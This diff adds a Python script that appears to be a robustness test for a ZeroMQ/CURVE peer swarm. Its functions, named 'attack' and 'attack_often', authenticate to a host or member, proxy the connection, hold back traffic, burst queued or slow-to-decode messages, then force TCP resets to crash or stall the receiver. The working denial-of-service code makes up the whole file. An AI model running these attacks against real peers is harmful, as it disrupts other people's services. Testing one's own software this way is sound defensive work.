@@ -1,0 +1,144 @@
+"""A stranger who fills receive queues and resets: ``resetting_caller.py INVITE WHOM HOW TIMES``.
+
+``WHOM`` is ``host`` or the name of a member, of which an observer learns the address. ``HOW``:
+``ping``: a hundred small messages with PING commands among them, in one piece, then a reset (12 kB).
+``full``: some connections with messages that take long to decode, then a reset; whoever has heartbeats of libzmq's
+writes one to a connection that is gone, while it works on the rest (3.7 MB a connection).
+"""
+
+from __future__ import annotations
+
+import asyncio
+import socket
+import struct
+import sys
+import threading
+import time
+from concurrent.futures import ThreadPoolExecutor
+
+import zmq
+from zmq.utils import z85
+
+from shoal.swarm.identity import CurveKeys
+from shoal.swarm.invite import Invite
+from shoal.swarm.messages import PeerToCoordinatorDescribeModel, PeerToPeerPing, TensorSpec
+from shoal.swarm.observer import observe
+from shoal.swarm.wire import Envelope, encode
+
+SMALL, LARGE, CONNECTIONS = 100, 40, 8
+_SPECS = 3000
+
+
+class Tap:
+    """Between a well-behaved CURVE client and its victim: it can keep what the client sends, to send it at once."""
+
+    def __init__(self, victim: tuple[str, int]) -> None:
+        self._victim = victim
+        self._listening = socket.create_server(("127.0.0.1", 0))
+        self.port = int(self._listening.getsockname()[1])
+        self._keeps = False
+        self._kept: list[bytes] = []
+        threading.Thread(target=self._connect, daemon=True).start()
+
+    def keep(self) -> None:
+        self._keeps = True
+
+    @property
+    def kept_bytes(self) -> int:
+        return sum(map(len, self._kept))
+
+    def send_and_reset(self) -> None:
+        try:
+            self._there.sendall(b"".join(self._kept))
+        except OSError:
+            print("was cut off", flush=True)
+        self._there.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        for one in (self._there, self._here, self._listening):
+            one.close()
+
+    def _connect(self) -> None:
+        self._here, _ = self._listening.accept()
+        self._there = socket.create_connection(self._victim)
+        self._there.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        threading.Thread(target=self._pass_back, daemon=True).start()
+        try:
+            while data := self._here.recv(2**16):
+                if self._keeps:
+                    self._kept.append(data)
+                else:
+                    self._there.sendall(data)
+        except OSError:
+            return
+
+    def _pass_back(self) -> None:
+        try:
+            while data := self._there.recv(2**16):
+                self._here.sendall(data)
+        except OSError:
+            return
+
+
+def attack(victim: tuple[str, int], key: bytes, me: CurveKeys, how: str) -> bool:
+    """Returns whether the victim has let us in."""
+    context, tap = zmq.Context(), Tap(victim)
+    client = context.socket(zmq.DEALER)
+    client.linger, client.sndhwm = 0, 0
+    client.curve_publickey, client.curve_secretkey = z85.encode(me.public), z85.encode(me.secret)
+    client.curve_serverkey = z85.encode(key)
+    if how == "ping":
+        client.heartbeat_ivl, client.heartbeat_timeout = 1, 60_000
+    monitor = client.get_monitor_socket(zmq.EVENT_HANDSHAKE_SUCCEEDED)
+    client.connect(f"tcp://127.0.0.1:{tap.port}")
+    if not monitor.poll(10_000):
+        return False
+    tap.keep()
+    if how == "ping":
+        for _ in range(SMALL):
+            client.send(encode(Envelope("notice", 0, PeerToPeerPing())))
+            time.sleep(0.001)  # for a PING or two in between
+    else:
+        layout = tuple(TensorSpec(name=f"{number}", shape=(1, 1), dtype="float32") for number in range(_SPECS))
+        large = encode(
+            Envelope(
+                "notice",
+                0,
+                PeerToCoordinatorDescribeModel(
+                    layout=layout, corpus_digest=None, corpus_about="", tokens_per_sample=1, samples=None
+                ),
+            )
+        )
+        for _ in range(LARGE):
+            client.send(large)
+        while tap.kept_bytes < LARGE * len(large):
+            time.sleep(0.01)
+    tap.send_and_reset()
+    client.disable_monitor()
+    client.close(0)
+    context.destroy(linger=0)
+    return True
+
+
+def attack_often(victim: tuple[str, int], key: bytes, me: CurveKeys, how: str, times: int) -> None:
+    for _ in range(times):
+        if how == "ping":
+            done = [attack(victim, key, me, how)]
+        else:
+            with ThreadPoolExecutor(CONNECTIONS) as pool:
+                tries = [pool.submit(attack, victim, key, me, how) for _ in range(CONNECTIONS)]
+            done = [one.result() for one in tries]
+        print("attacked" if all(done) else "not let in", flush=True)
+
+
+async def main(invite: Invite, whom: str, how: str, times: int) -> None:
+    if whom == "host":
+        attack_often(invite.addresses[0], invite.key, CurveKeys.fresh(), how, times)
+        return
+    async with observe(invite) as guest:
+        entry = next(one for one in guest.view.roster or () if one.name == whom)
+        victim, key = (entry.host, entry.control_port), entry.certificate.curve_key
+        await asyncio.to_thread(attack_often, victim, key, guest.node.control.keys, how, times)
+
+
+if __name__ == "__main__":
+    _, _invite, _whom, _how, _times = sys.argv
+    asyncio.run(main(Invite.parse(_invite), _whom, _how, int(_times)))
